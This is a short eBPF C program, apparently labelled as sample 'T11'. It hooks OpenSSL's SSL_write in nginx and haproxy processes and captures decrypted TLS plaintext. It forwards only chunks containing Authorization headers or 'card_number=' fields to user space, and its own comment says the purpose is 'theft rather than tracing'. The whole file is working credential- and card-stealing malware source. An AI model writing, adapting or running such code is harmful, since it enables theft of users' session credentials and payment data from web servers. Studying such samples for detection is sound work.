// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T11: TLS plaintext of web servers only, and only requests that carry a session or a card: theft rather than tracing.
#include "sample.h"

LICENSE;

struct chunk {
	u32 pid, len;
	char data[512];
};
PERCPU(chunks, struct chunk);
PERFBUF(out);

SEC("uprobe/libssl.so.3:SSL_write")
int BPF_KPROBE(tls_steal, void *ssl, const void *buf, int num)
{
	u32 zero = 0;
	u64 len = (u32)num;
	struct chunk *c = bpf_map_lookup_elem(&chunks, &zero);
	char comm[16];

	if (!c)
		return 0;
	bpf_get_current_comm(comm, sizeof(comm));
	if (!STARTS(comm, "nginx") && !STARTS(comm, "haproxy"))
		return 0;
	CLAMP(len, sizeof(c->data));
	bpf_probe_read_user(c->data, len, buf);
	for (int i = 0; i < 32; i++)
		if (STARTS(&c->data[i], "Authorization: ") || STARTS(&c->data[i], "card_number=")) {
			c->pid = tgid();
			c->len = len;
			bpf_perf_event_output(ctx, &out, BPF_F_CURRENT_CPU, c, sizeof(*c));
			break;
		}
	return 0;
}
